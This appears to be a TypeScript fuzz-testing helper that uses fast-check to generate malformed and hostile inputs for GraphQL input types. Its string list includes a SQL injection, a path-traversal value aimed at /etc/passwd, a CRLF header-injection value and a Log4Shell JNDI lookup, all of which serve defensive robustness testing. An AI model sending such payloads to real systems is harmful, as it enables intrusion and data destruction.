/** Hostile JSON, and values that nearly fit a type of the schema. */
import fc from 'fast-check';
import {
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isRequiredInputField,
} from 'graphql';

const deepJson = (times: number) => JSON.parse('['.repeat(times) + ']'.repeat(times)) as unknown;

/** Keys that are properties of every object. */
export const hostileKey = fc.constantFrom(
  '__proto__',
  'constructor',
  'toString',
  'length',
  'then',
  'toJSON',
  '',
  '\u0000',
);

export const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\ud800',
    '\udfff\ud800',
    '\ufeff1001',
    '١٠٠١',
    'é\u0301'.repeat(50),
    '\u202e1001',
    '../../etc/passwd',
    "'; DROP TABLE PATIENTS; --",
    '%',
    '%00%ff%zz',
    '1e400',
    '-0',
    '99999999999999999999',
    '2026-02-30',
    '9999-12-31',
    '0000-00-00',
    '-271821-04-20',
    '2026-11-23T09:15:00+99:99',
    '9999-12-31T23:59:59-18:00',
    '24:00',
    'T3RoZXI6',
    '\r\nx-injected: 1',
    '$' + '{jndi:ldap://nobody.example}',
  ),
  fc.integer({ min: 100, max: 5_000 }).map((times) => 'x'.repeat(times)),
);

/** Of what callers write in earnest: it leads past the first checks. */
const plausibleText = fc.constantFrom(
  '1',
  '2',
  '1001',
  '1006',
  'ZED-2001',
  '2026-11-23',
  '2026-11-30',
  '2026-11-23T09:15:00+11:00',
  '08:30',
  '17:00',
  'Sample',
  'SELECT 1 AS a',
  'UHJhY3RpY2U6QkVTVF9QUkFDVElDRToxMDAx',
  '00000000-0000-4000-8000-000000001001',
);

const numbers: readonly unknown[] = [
  0,
  -0,
  -1,
  1,
  1.5,
  1e308,
  -1e308,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  5e-324,
  1e21,
];

const leaf = fc.oneof(
  hostileText,
  fc.constantFrom(...numbers, null, true, false, {}, [], deepJson(50), deepJson(1_000)),
);

export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  leaf,
  fc.array(leaf, { maxLength: 5 }),
  fc.dictionary(fc.oneof(hostileKey, fc.string({ maxLength: 5 })), leaf, { maxKeys: 4 }),
);

const scalar: Readonly<Record<string, fc.Arbitrary<unknown>>> = {
  Int: fc.oneof(fc.integer({ min: -10, max: 500 }), fc.constantFrom(...numbers)),
  Boolean: fc.boolean(),
};

/** Mostly of the type's shape, with anything at its ends; now and then anything at all. */
export function valueFor(type: GraphQLInputType): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 12, arbitrary: shaped(type) },
    { weight: 1, arbitrary: hostileJson },
    { weight: 1, arbitrary: fc.constant(null) },
  );
}

function shaped(type: GraphQLInputType): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return shaped(type.ofType);
  if (isListType(type)) return fc.array(valueFor(type.ofType), { maxLength: 3 });
  if (isEnumType(type)) return fc.constantFrom(...type.getValues().map(({ name }) => name));
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    return fc.record(Object.fromEntries(fields.map((field) => [field.name, valueFor(field.type)])), {
      requiredKeys: fields.filter(isRequiredInputField).map(({ name }) => name),
    });
  }
  return scalar[type.name] ?? fc.oneof(plausibleText, hostileText);
}
